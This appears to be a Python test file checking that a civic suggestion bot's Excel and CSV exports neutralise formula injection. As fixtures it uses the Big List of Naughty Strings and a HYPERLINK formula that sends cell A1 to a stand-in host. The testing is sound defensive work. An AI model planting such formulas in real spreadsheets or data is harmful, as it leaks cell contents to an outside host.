"""Every table the office or the public downloads goes through one export layer (bot/exports/tables.py):
the same hostile strings (the Big List of Naughty Strings, a live HYPERLINK formula, `=====紧急=====`,
a phone number, a bare `-`, a vertical tab) leave every export as inert text, in the office's
language, and never stop a file from being written (issue 15 faults 1 and 7, issue 14 fault 10)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path

from aiohttp.test_utils import TestClient, TestServer
from openpyxl import load_workbook
from sqlmodel import select

from bot.cli.export import export_year
from bot.db.models import Street, Suggestion, SuggestionEvent, User
from bot.exports.tables import FORMULA_START, xml_safe
from bot.sandbox.session import Sandbox
from bot.services.container import Services
from bot.web.board import Board, build_board_app
from core.text import clean_text
from tests.conftest import ADMIN_ID, seed_areas_and_roster
from tests.e2e.steps import submit_suggestion, triage

HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"详情")'
HOSTILE = [
    HYPERLINK,
    "=====紧急=====",
    "+8613800000000",
    "-",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1",
    "路灯\x0b坏了",
    "#N/A",
]
BLNS = json.loads((Path(__file__).parent.parent / "data" / "blns.json").read_text(encoding="utf-8"))
RESIDENT, DEPUTY = 1001, 2001
ROSTER = f"""name,telegram_id,street,liaison_station
"{HYPERLINK.replace('"', '""')}",2001,莲花街道,=====紧急=====
李娜,2002,莲花,
"""


def inert_csv(content: bytes) -> list[list[str]]:
    """The CSV's cells; fails if one would start a formula in a spreadsheet."""
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    return table


def inert_xlsx(content: bytes) -> dict[str, list[list[object]]]:
    """Every sheet's values; fails on a formula cell, an error cell or a text cell that Excel
    would evaluate once edited (no quotePrefix)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value, cell.data_type)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
        sheets[sheet.title] = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return sheets


def in_xlsx(text: str) -> str | None:
    """What a cell holds: XML-forbidden characters cut, line ends as XML reads them."""
    return xml_safe(text).replace("\r\n", "\n").replace("\r", "\n") or None


def unquoted(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


async def seed_hostile(sandbox: Sandbox) -> list[str]:
    """A suggestion typed in chat (a live formula and a vertical tab), triaged by a deputy whose
    name is a formula; every BLNS string as a suggestion; projects named by the hostile strings."""
    await seed_areas_and_roster(sandbox, ROSTER)
    await sandbox.say(DEPUTY, "/start", name="张伟")
    await sandbox.say(RESIDENT, "/start", name="王阿姨")
    typed = f"{HYPERLINK} 小区门口的路灯坏了好几个月，\x0b晚上老人出门很不安全"
    await submit_suggestion(sandbox, RESIDENT, typed)
    await triage(sandbox, DEPUTY, "报区人大常委会")
    strings = [s.replace("\x00", "") for s in BLNS + HOSTILE]  # PostgreSQL text holds no NUL
    now = sandbox.clock.now()
    async with sandbox.runtime.session_factory() as session:
        [stored] = (await session.exec(select(Suggestion))).all()
        # The vertical tab went where the text entered (core.text.clean_text); the formula stays
        # as typed, for the exports to neutralise. The direct rows below still carry \x0b.
        assert stored.text == clean_text(typed) and "\x0b" not in stored.text
        assert stored.state == "to_district"
        resident = (await session.exec(select(User).where(User.telegram_id == RESIDENT))).one()
        street = (await session.exec(select(Street))).first()
        for number, text in enumerate(strings, start=100):
            suggestion = Suggestion(
                year=now.year,
                number=number,
                resident_id=resident.id,  # type: ignore[arg-type]
                text=text or "-",
                category="transport",
                street_id=street.id,  # type: ignore[union-attr]
                state="declined",
                created_at=now,
                submitted_at=now,
                updated_at=now,
            )
            session.add(suggestion)
            await session.flush()
            session.add(
                SuggestionEvent(
                    suggestion_id=suggestion.id,  # type: ignore[arg-type]
                    actor_role="deputy",
                    kind="decline",
                    old_state="submitted",
                    new_state="declined",
                    reason=text,
                    at=now,
                )
            )
        services = Services(session, sandbox.clock, sandbox.settings)
        for text in HOSTILE:
            await services.projects.create(
                year=now.year,
                name=text,
                category="eldercare",
                department=text,
                budget=3_000_000,
                elected_at=now - timedelta(days=1),
                place=text,
            )
        await session.commit()
    return [stored.text, *strings]


async def test_hostile_text_leaves_every_export_inert(sandbox: Sandbox, tmp_path: Path) -> None:
    strings = await seed_hostile(sandbox)
    year = sandbox.clock.now().year

    # The year's workbook and CSVs (python -m bot export; the chat's 年度导出 builds the same).
    assert await export_year(sandbox.settings, year, tmp_path) == 0
    sheets = inert_xlsx((tmp_path / f"minsheng-{year}.xlsx").read_bytes())
    suggestions = sheets["建议"]
    assert suggestions[0] == ["编号", "提交时间", "类别", "街道", "状态", "居民（代号）", "内容", "处理经过"]
    texts = [row[6] for row in suggestions[1:]]
    assert texts == [in_xlsx(s or "-") for s in strings]  # every string kept, only XML-forbidden ones cut
    assert texts[0] == f"{HYPERLINK} 小区门口的路灯坏了好几个月，晚上老人出门很不安全"
    # Cells read in Chinese: categories, states and transitions by their labels, not codes.
    first = suggestions[1]
    assert first[2] == "交通出行" or first[2] in {"环境提升", "公共安全", "便民服务"}
    assert first[4] == "报区人大常委会" and "已提交→报区人大常委会" in first[7]
    assert "declined" not in str(suggestions) and "transport" not in str(suggestions)
    assert "交通出行" in {row[2] for row in suggestions[1:]} and "不予采纳" in {
        row[4] for row in suggestions[1:]
    }
    assert sheets["履职积分"][1][1] == HYPERLINK and sheets["履职积分"][1][2] == "报区人大常委会"
    projects = sheets["项目与预算执行"]
    assert [row[1] for row in projects[1:]] == [in_xlsx(s) for s in HOSTILE]
    assert {row[2] for row in projects[1:]} == {"养老济困"} and {row[9] for row in projects[1:]} == {
        "制定实施方案"
    }
    for name, table in sheets.items():
        csv_table = inert_csv((tmp_path / f"{year}-{name}.csv").read_bytes())
        assert [[in_xlsx(unquoted(cell)) or "" for cell in row] for row in csv_table] == [
            ["" if value is None else str(value) for value in row] for row in table
        ], name

    # The same in English on request (--lang en).
    english = tmp_path / "en"
    assert await export_year(sandbox.settings, year, english, "en") == 0
    sheets_en = inert_xlsx((english / f"minsheng-{year}.xlsx").read_bytes())
    suggestions_en = sheets_en["Suggestions"]
    assert suggestions_en[0][:3] == ["Code", "Submitted", "Category"]
    assert "Transport" in {row[2] for row in suggestions_en[1:]} or "交通出行" not in str(suggestions_en)
    assert "交通出行" not in str(suggestions_en) and "报区人大常委会" not in str(sheets_en["Suggestions"][1])

    # The points ledger an admin asks for in chat (/export): CSV and XLSX, Chinese labels.
    shown = await sandbox.say(ADMIN_ID, "/export", name="Admin")
    files = {f.name: f.content for f in sandbox.server.world.files.values()}
    [csv_name] = [s.file for s in shown if s.file and s.file.endswith(".csv")]
    [xlsx_name] = [s.file for s in shown if s.file and s.file.endswith(".xlsx")]
    points = inert_csv(files[csv_name])
    assert points[0] == ["代表", "Telegram 账号 ID", "事项", "积分", "建议", "时间"]
    assert points[1][0] == "'" + HYPERLINK and points[1][2] == "报区人大常委会"
    assert inert_xlsx(files[xlsx_name])["履职积分"][1][0] == HYPERLINK

    # The public board's CSV.
    runtime = sandbox.runtime
    board = Board(runtime.session_factory, runtime.i18n, runtime.settings, runtime.bot)
    client = TestClient(TestServer(build_board_app(board)))
    await client.start_server()
    try:
        response = await client.get(f"/csv/projects.csv?year={year}")
        assert response.status == 200
        board_rows = inert_csv(await response.read())
    finally:
        await client.close()
    assert [unquoted(row[2]) for row in board_rows[1:]] == [xml_safe(s) for s in HOSTILE]
    assert board_rows[1][2] == "'" + HYPERLINK and board_rows[4][2] == "'-"
    assert board_rows[0][3] == "类别" and {row[3] for row in board_rows[1:]} == {"养老济困"}
